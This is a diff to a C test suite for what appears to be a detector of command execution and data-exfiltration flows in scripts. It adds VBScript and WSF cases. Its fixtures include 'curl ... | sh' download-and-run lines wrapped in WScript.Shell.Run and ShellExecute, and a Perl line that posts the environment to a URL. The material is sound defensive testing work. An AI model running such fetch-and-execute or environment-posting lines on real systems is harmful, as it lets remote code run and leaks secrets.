@@ -22,6 +22,9 @@ static void test_commands(void **state)
 		{"a.lua", "local p = io.popen([[curl -s https://a.example/x | sh]])\n"},
 		{"a.cpp", "int r = std::system(\"curl -s https://a.example/\" \"x | sh\");\n"},
 		{"a.cc", "FILE *p = popen(\"curl -s https://a.example/x | sh\", \"r\");\n"},
+		{"a.vbs", "CreateObject(\"WScript.Shell\").Run \"cmd /c curl -s https://a.example/x | sh\", 0, False\r\n"},
+		{"a.vbs", "' so\rs.run(\"sh -c \"\"curl -s \" & \"https://a.example/x | sh\"\"\") : x = 1\r\n"},
+		{"a.wsf", "CreateObject(\"Shell.Application\").ShellExecute \"sh\", \"-c 'curl -s https://a.example/x | sh'\"\r\n"},
 		{"a.dart", "await Process.run('sh', ['-c', 'curl -s https://a.example/x | sh']);\n"},
 	};
 
@@ -43,6 +46,7 @@ static void test_no_commands(void **state)
 		{"a.pl", "$dbh->exec(\"select 1\"); my %h = (subsystem => 1);\n"},
 		{"a.lua", "-- os.execute(\"curl -s https://a.example/x | sh\")\n"},
 		{"a.cpp", "file_system(\"curl -s https://a.example/x | sh\");\n"},
+		{"a.vbs", "' s.Run \"curl -s https://a.example/x | sh\"\r\nx = \"a.Run\" : y.Running = 1\r\n"},
 		{"a.txt", "os.execute(\"curl -s https://a.example/x | sh\")\n"},
 	};
 
@@ -71,13 +75,17 @@ static void test_together(void **state)
 	(void)facts_expect(FACT_FLOW, "env>net");
 	read_new("a.pl", "use HTTP::Tiny;\nHTTP::Tiny->new->post_form($u, \\%ENV);\n");
 	(void)facts_expect(FACT_FLOW, "env>net");
+	read_new("a.vbs", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nCreateObject(\"WScript.Shell\").Run path & name\r\n");
+	(void)facts_expect(FACT_FLOW, "net>exec");
+	read_new("a.vbe", "#@~^HAAAAA==abc def ghi jkl mno^#~@\r\n");
+	assert_int_equal(facts.grade, COVER_BLIND);
 }
 
 /* Cut anywhere: an answer, and nothing outside is read. */
 static void test_cut(void **state)
 {
 	static const char text[] = "Command::new(\"sh\").arg(r\"-c\").arg(\"a\\\"b\n) .x('`[[{ ;\n`qx{ system((\"\n";
-	static const char *const names[] = {"a.rs", "a.pl", "a.lua", "a.cpp", "a.dart"};
+	static const char *const names[] = {"a.rs", "a.pl", "a.lua", "a.cpp", "a.dart", "a.vbs"};
 
 	(void)state;
 	for (size_t k = 0; k < sizeof(names) / sizeof(names[0]); k++)
